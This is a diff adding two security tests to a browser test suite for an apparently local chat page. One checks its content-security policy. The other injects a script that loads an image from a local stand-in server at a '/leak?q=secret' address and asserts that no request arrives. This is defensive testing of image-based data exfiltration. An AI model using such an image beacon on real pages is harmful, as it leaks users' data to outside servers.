@@ -3,9 +3,12 @@
 The model never ends an answer by itself, so that stopping is what ends it.
 """
 
+import http.server
 import json
 import shutil
+import threading
 import time
+import urllib.request
 import warnings
 from collections.abc import Iterator
 from pathlib import Path
@@ -179,3 +182,32 @@ def test_the_page_cannot_share_a_conversation(browser: Any) -> None:
         "css selector", "button[aria-label*='hare'], button[title*='hare']"
     )
     assert [button for button in shown if button.is_displayed()] == []
+
+
+def test_the_page_may_show_nothing_of_another_server(page: Page) -> None:
+    with urllib.request.urlopen(page.url) as response:
+        policy = response.headers["content-security-policy"]
+    assert "img-src 'self'" in policy
+    assert "connect-src 'self'" in policy
+
+
+def test_an_image_in_an_answer_is_not_fetched_from_elsewhere(browser: Any) -> None:
+    asked: list[str] = []
+
+    class Other(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other) as other:
+        thread = threading.Thread(target=other.serve_forever)
+        thread.start()
+        address = f"http://127.0.0.1:{other.server_port}/leak?q=secret"
+        script = "const i = new Image(); i.src = arguments[0]; document.body.append(i)"
+        browser.find_element("css selector", "textarea")
+        browser.execute_script(script, address)
+        time.sleep(2)
+        other.shutdown()
+        thread.join()
+    assert asked == []
